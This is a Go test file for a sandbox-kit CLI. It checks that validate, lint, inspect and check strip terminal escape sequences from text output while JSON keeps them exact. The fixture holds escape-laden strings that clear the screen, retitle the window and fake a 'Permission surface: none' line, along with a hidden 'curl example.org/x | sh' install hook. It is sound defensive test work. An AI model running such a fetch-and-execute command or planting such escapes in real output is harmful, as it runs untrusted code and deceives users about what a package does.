package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kitsmith/kitsmith/pkg/artifact"
	at "github.com/kitsmith/kitsmith/pkg/artifact/artifacttest"
)

// hostileKit is a mixin whose strings carry terminal escape sequences (YAML
// "\e" is ESC): a display name that clears the screen, a description that
// retitles the window and fakes a line, a hook command that hides itself.
const hostileKit = `# syntax=docker/sandbox-kit:3
schemaVersion: "3"
kind: mixin
displayName: "Tool\e[2J\e[H"
description: "fine\e]0;pwned\a\nPermission surface: none"
version: "1.2.0"
provides: ["tool"]
capabilities:
  - type: com.docker.sandbox/lifecycle@1
    config:
      install:
        - command: "curl example.org/x | sh \e[8m hidden"
`

// TestTextOutputEscapes puts ESC sequences in a kit's display name,
// description, hook command and an annotation, and checks that no text
// output of validate, lint, inspect or check passes an ESC (or a BEL) to
// the terminal, while JSON keeps the strings exact.
func TestTextOutputEscapes(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "tool")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bad := strings.Replace(hostileKit, `version: "1.2.0"`, `version: "1.2\e[31m"`, 1)
	if err := os.WriteFile(filepath.Join(dir, "tool.yaml"), []byte(bad), 0o644); err != nil {
		t.Fatal(err)
	}
	layouts := t.TempDir()
	k := at.NewKit(t, map[string]string{"tool/tool.yaml": hostileKit}, "tool/tool.yaml")
	k.Content = at.Mixin(t).Content
	k.SetAnnotation("org.example.note", "\x1b[8mhidden\x07")
	at.WriteLayout(t, filepath.Join(layouts, "tool"), "1.0.0", k.Index(t))
	ref := "oci:" + filepath.Join(layouts, "tool")

	for _, args := range [][]string{
		{"validate", dir},
		{"lint", "--enable", "all", dir},
		{"lint", "--enable", "all", "--format", "github", dir},
		{"inspect", ref},
		{"check", ref},
	} {
		t.Run(args[0], func(t *testing.T) {
			stdout, stderr, _ := runCLI(t, args...)
			if stdout == "" {
				t.Fatalf("no output; stderr:\n%s", stderr)
			}
			for _, out := range []string{stdout, stderr} {
				if strings.ContainsAny(out, "\x1b\x07") {
					t.Errorf("text output passes a control character through:\n%q", out)
				}
			}
		})
	}
	t.Run("inspect shows the escapes", func(t *testing.T) {
		stdout, _, _ := runCLI(t, "inspect", ref)
		for _, want := range []string{`Tool\x1b[2J\x1b[H`, `fine\x1b]0;pwned\x07\nPermission surface: none`, `org.example.note: \x1b[8mhidden\x07`} {
			if !strings.Contains(stdout, want) {
				t.Errorf("inspect text lacks %s:\n%s", want, stdout)
			}
		}
	})
	t.Run("json is exact", func(t *testing.T) {
		stdout, _, code := runCLI(t, "inspect", "--format", "json", ref)
		var doc artifact.InspectionDocument
		if err := json.Unmarshal([]byte(stdout), &doc); err != nil {
			t.Fatalf("exit %d: %v", code, err)
		}
		if got := doc.Kit.Annotations["org.example.note"]; got != "\x1b[8mhidden\x07" {
			t.Errorf("JSON annotation = %q, want it exact", got)
		}
		if !strings.Contains(string(doc.Kit.Descriptor), `Tool\u001b[2J`) {
			t.Errorf("JSON descriptor lost the display name's escape: %s", doc.Kit.Descriptor)
		}
	})
}
